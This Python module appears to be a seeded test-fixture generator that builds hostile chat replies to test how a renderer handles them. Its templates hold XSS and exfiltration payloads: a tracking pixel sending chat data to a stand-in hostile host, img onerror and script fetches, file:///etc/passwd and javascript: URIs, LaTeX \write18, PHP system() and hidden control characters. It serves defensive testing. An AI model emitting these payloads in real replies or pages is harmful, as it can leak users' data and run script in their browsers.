"""Replies that try to fetch, open, run or hide something: made from a seed, the same each time."""

import random
from collections.abc import Callable

ADDRESSES = (
    "http://127.0.0.1:9/x.png",
    "https://stillroom-hostile.invalid/pixel.gif?chat=secret",
    "file:///etc/passwd",
    "/etc/hostname",
    "//stillroom-hostile.invalid/x",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "smb://stillroom-hostile.invalid/share",
    "vbscript:msgbox(1)",
    "qrc:/secret",
    "\\\\\\\\stillroom-hostile.invalid\\\\share\\\\x.png",
)
HIDDEN = "\u202e\u2066\u200b\u0007\u001b[31m\ufeff\x00"

_TEMPLATES = (
    "![pixel]({a})",
    "[![pixel]({a})]({b})",
    '[text]({a} "{b}")',
    "<{a}>",
    '<img src="{a}" onerror="fetch(\'{b}\')">',
    "<script src=\"{a}\"></script><script>fetch('{b}')</script>",
    '<iframe src="{a}"></iframe>',
    "<style>@import url('{a}'); body {{ background: url({b}) }}</style>",
    '<link rel="stylesheet" href="{a}">',
    '<svg><image href="{a}"/><use xlink:href="{b}"/></svg>',
    '<object data="{a}"></object><embed src="{b}">',
    '<a href="{a}" onclick="alert(1)">click</a>',
    '<table background="{a}"><tr><td>x</td></tr></table>',
    '<p style="background-image: url({a})">x</p>',
    '<meta http-equiv="refresh" content="0; url={a}">',
    "| ![x]({a}) | <img src='{b}'> |\n|---|---|\n| <img src=\"{a}\"> | ![y]({b}) |",
    '> - ![x][ref]\n\n[ref]: {a} "{b}"',
    "\\( \\includegraphics{{{a}}} \\input{{/etc/passwd}} \\)",
    "\\[ \\href{{{a}}}{{x}} \\url{{{b}}} \\write18{{ls}} \\def\\x{{\\x\\x}}\\x \\]",
    "$$ \\image{{{a}}} <img src='{b}'> $$",
    '`<img src="{a}">` &lt;img src="{b}"&gt; &#60;img src={a}&#62;',
    "```html\n<img src=\"{a}\">\n<script>fetch('{b}')</script>\n```",
    "```{a}\n{b}\n```",
    '``` "><img src={a}>\nx\n```',
    '# <img src="{a}">\n\n## ![x]({b})',
    "{h}[safe](http://example.org){h}({a})",
    "<!-- {a} --><![CDATA[<img src=\"{b}\">]]><?php system('{a}') ?>",
    '<video src="{a}" autoplay></video><audio src="{b}" autoplay></audio>',
    "&#x3c;img src=&quot;{a}&quot;&#x3e;",
    '<base href="{a}"><img src="x.png">',
)


def hostile_replies(count: int, seed: int = 20260101) -> list[str]:
    """`count` replies of one to five attacks each, nested, cut and mixed with plain text."""
    draw = random.Random(seed)
    return [_reply(draw) for _ in range(count)]


def _reply(draw: random.Random) -> str:
    pieces = []
    for _ in range(draw.randint(1, 5)):
        attack = draw.choice(_TEMPLATES).format(a=draw.choice(ADDRESSES), b=draw.choice(ADDRESSES), h=HIDDEN)
        for _ in range(draw.randint(0, 2)):
            attack = draw.choice(_WRAPPINGS)(attack)
        if draw.random() < 0.2:
            attack = attack[: draw.randint(1, len(attack))]
        pieces.append(attack)
        if draw.random() < 0.5:
            pieces.append("Some words **between** the attacks.")
    return "\n\n".join(pieces)


_WRAPPINGS: tuple[Callable[[str], str], ...] = (
    lambda text: "> " + text.replace("\n", "\n> "),
    lambda text: "- " + text.replace("\n", "\n  "),
    lambda text: f"**{text}**",
    lambda text: f"<div>{text}</div>",
    lambda text: f"1. {text}",
    lambda text: f"{text}{HIDDEN}",
    lambda text: text.replace("i", "&#105;", 1),
)
